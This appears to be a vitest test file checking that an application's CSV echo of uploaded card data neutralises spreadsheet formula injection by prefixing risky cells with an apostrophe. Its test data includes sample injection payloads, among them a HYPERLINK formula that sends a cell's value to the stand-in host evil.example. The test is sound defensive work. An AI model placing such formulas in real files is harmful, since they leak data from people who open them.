import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { useHarness } from '../helpers/harness';
import { VISA } from '../helpers/cards';
import { settled, upload } from '../imports/upload';

/** Every CSV Laneway writes neutralises cells a spreadsheet would run as a formula. */
const h = useHarness({ api: true });

describe('CSV formula injection', () => {
  it("prefixes cells starting with = + - @ (or a tab or carriage return) in a card file's echo with an apostrophe", async () => {
    const header = 'customer_identifier,name,first_name,last_name,number,expiry,postal_code,create_debit_agreement,auto_debit_reference';
    const evil = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd', '-2+3', '@SUM(A1)'];
    const csv = `${header}\nC-EVIL,"${evil[0]!.replace(/"/g, '""')}",${evil[1]},${evil[2]},${VISA},1230,"\tX1Y",N,${evil[3]}\n`;
    const batch = await settled(h.api, (await upload(h.api.url, csv, { force: true, filename: 'evil.csv' })).body.id);
    expect(batch.result_message).toBe('1 credit card');
    const echo = await h.api.get<string>(`/api/imports/${batch.id}/echo`);
    const [row] = parse(echo.body) as string[][];
    expect(row!.slice(1, 4)).toEqual(evil.slice(0, 3).map((c) => `'${c}`));
    expect(row![6]).toBe("'\tX1Y");
    expect(row![8]).toBe(`'${evil[3]}`);
    for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
